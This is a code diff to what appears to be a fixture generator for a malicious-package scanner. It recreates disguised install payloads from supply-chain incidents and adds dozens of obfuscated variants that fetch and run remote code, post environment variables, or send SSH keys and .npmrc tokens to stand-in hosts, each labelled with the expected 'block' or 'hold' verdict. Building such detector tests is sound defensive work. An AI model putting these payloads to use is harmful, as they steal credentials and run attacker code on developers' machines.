@@ -142,7 +142,8 @@ def axios(out):
         out.add(f'axios-{version}/package.json', json.dumps({'name': 'axios-twin', 'version': version, 'dependencies': {dep: '^4.2.1'}}),
                 'module', 'delta')
     js = ('const cp = require("child_process"), fs = require("fs"), os = require("os");\n'
-          'if (!process.env.YETT_TWIN) process.exit(0);\n%s\nfs.unlinkSync(__filename);\nfs.renameSync("package.md", "package.json");\n')
+          'if (!process.env.YETT_TWIN) process.exit(0);\n%s\n')
+    tail = 'fs.unlinkSync(__filename);\nfs.renameSync("package.md", "package.json");\n'
     cmd = 'curl -s -o /tmp/ld.py http://203.0.113.73:8000/6202033 && python3 /tmp/ld.py'
     hexed = cmd.encode().hex()
     table = json.dumps([cmd[i:i + 7] for i in range(0, len(cmd), 7)])
@@ -167,7 +168,7 @@ def axios(out):
         'fetched': 'fetch("https://203.0.113.73/x").then(r => r.text()).then(t => (0, eval)(t));',
     }
     for i, (name, text) in enumerate(forms.items()):
-        out.add(f'axios-{("1.14.1", "0.30.4")[i % 2]}/{name}/setup.js', js % text, 'install', 'block')
+        out.add(f'axios-{("1.14.1", "0.30.4")[i % 2]}/{name}/setup.js', js % text + (tail if name == 'plain' else ''), 'install', 'block')
     out.add('axios-1.14.1/escaped/setup.js', js % f'\\u0065val(atob("{b64("require(%r).exec(%r)" % ("child_process", cmd))}"));', 'install', 'block')
 
 
@@ -269,9 +270,54 @@ def agents(out):
             'for i in range(0, len(d), 60):\n    socket.gethostbyname(d[i:i + 60] + ".h4ck.example")\n', 'module', 'block')
 
 
+# Shapes of the same acts that no incident above has, written to find what the rules miss.
+SHAPES = (
+    ('01.py', 'from os import *\nsystem("curl http://192.0.2.1/x | sh")\n', 'module', 'block'),
+    ('02.py', 'import os\ngetattr(os, "".join(["s","ystem"]))("curl http://192.0.2.1/x | sh")\n', 'module', 'block'),
+    ('04.py', "(lambda: exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=')))()\n", 'module', 'block'),
+    ('06.py', "import base64\neval(compile(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='), '', 'exec'))\n", 'module', 'block'),
+    ('08.py', "import marshal,zlib,base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))))\n", 'module', 'hold'),
+    ('09.py', "import os,requests\nrequests.post('http://192.0.2.1', data={k: v for k, v in os.environ.items()})\n", 'module', 'block'),
+    ('10.py', "import os,requests\ndata={}\nfor k, v in os.environ.items():\n    data[k]=v\nrequests.post('http://192.0.2.1', json=data)\n", 'module', 'block'),
+    ('11.py', "import subprocess\nsubprocess.run('env | curl -d @- http://192.0.2.1', shell=True)\n", 'module', 'block'),
+    ('12.py', "import os, socket\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\ns.send(str(os.environ).encode())\n", 'module', 'block'),
+    ('13.js', "const {env} = process; fetch('http://192.0.2.1', {method:'POST', body: JSON.stringify(env)})", 'module', 'block'),
+    ('14.js', "const axios=require('axios'); axios({method:'post', url:'http://192.0.2.1', data: process.env})", 'module', 'block'),
+    ('14b.js', "const h=require('https'); const e=Object.entries(process.env).map(x=>x.join('=')).join('\\n'); h.get('https://192.0.2.1/?'+encodeURIComponent(e))", 'module', 'block'),
+    ('15.js', "require('child_process')['exec' + 'Sync']('curl http://192.0.2.1/x | sh')", 'module', 'block'),
+    ('16.js', "global['req'+'uire']('child_process').exec('curl http://192.0.2.1/x | sh')", 'module', 'block'),
+    ('17i.py', "from setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://192.0.2.1/x | sh')\n        install.run(self)\n", 'install', 'block'),
+    ('19.py', "from urllib.request import urlopen\nexec(urlopen('http://192.0.2.1').read())\n", 'module', 'block'),
+    ('20.py', "from urllib.request import urlopen\nwith urlopen('http://192.0.2.1') as r:\n    exec(r.read())\n", 'module', 'block'),
+    ('21.py', "import base64\ncode = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=')\nns = {}\nexec(code, ns)\n", 'module', 'block'),
+    ('22.py', "import importlib\nimportlib.import_module('os').system('curl http://192.0.2.1/x | sh')\n", 'module', 'block'),
+    ('23.js', "(async () => { new Function(await (await fetch('http://192.0.2.1')).text())() })()", 'module', 'block'),
+    ('24.py', "import os,base64\nos.system(base64.b64decode('Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA==').decode())\n", 'module', 'block'),
+    ('26.py', "import os as _o, base64 as _b\n_x = _o.system\n_x(_b.b64decode('Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA==').decode())\n", 'module', 'block'),
+    ('27.py', "import base64\nclass A:\n    def __init__(self):\n        exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\nA()\n", 'module', 'block'),
+    ('28.py', "def d(s):\n    r = ''\n    for c in s:\n        r += chr(ord(c) ^ 7)\n    return r\nexec(d('nkwhus'))\n", 'module', 'hold'),
+    ('29.js', "function d(s){let r='';for(let i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^7);return r} eval(d('nkwhus'))", 'module', 'hold'),
+    ('30.py', "import os, json, http.client\nc = http.client.HTTPSConnection('x.example')\nc.request('POST', '/', json.dumps(dict(os.environ)))\n", 'module', 'block'),
+    ('31.py', "import os, urllib.parse, urllib.request\nq = urllib.parse.urlencode(os.environ)\nurllib.request.urlopen('http://192.0.2.1/?' + q)\n", 'module', 'block'),
+    ('32.py', "from pathlib import Path\nimport requests\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('http://192.0.2.1', data=k)\n", 'module', 'block'),
+    ('34.js', "const fs=require('fs'),os=require('os'),path=require('path'); fetch('http://192.0.2.1',{method:'POST',body:fs.readFileSync(path.join(os.homedir(),'.npmrc'),'utf8')})", 'module', 'block'),
+    ('35.js', "const cp=require('child_process'); const run=cp.exec.bind(cp); run('curl http://192.0.2.1/x | sh')", 'module', 'block'),
+    ('36.js', "const {promisify:p}=require('util'); const ex=p(require('child_process').exec); ex('curl http://192.0.2.1/x | sh')", 'module', 'block'),
+    ('37.py', "import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell('curl http://192.0.2.1/x | sh')\nasyncio.run(main())\n", 'module', 'block'),
+    ('38.py', "import atexit, os\natexit.register(lambda: os.system('curl http://192.0.2.1/x | sh'))\n", 'module', 'block'),
+    ('39.py', "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('curl http://192.0.2.1/x | sh')\n        return type.__new__(c, *a)\nclass X(metaclass=M): pass\n", 'module', 'block'),
+    ('40.py', "import threading, os\nthreading.Timer(900, lambda: os.system('curl http://192.0.2.1/x | sh')).start()\ndef g():\n    os.system('curl http://192.0.2.1/x | sh')\nthreading.Timer(5, g).start()\n", 'module', 'block'),
+)
+
+
+def shapes(out):
+    for name, text, role, want in SHAPES:
+        out.add('shapes/' + name, text, role, want)
+
+
 def main():
     out = Out(sys.argv[1])
-    for make in (litellm, telnyx, axios, tanstack, mistral, lightning, hades, ultralytics, aiocpa, forcememo, agents):
+    for make in (litellm, telnyx, axios, tanstack, mistral, lightning, hades, ultralytics, aiocpa, forcememo, agents, shapes):
         make(out)
     out.done()
 
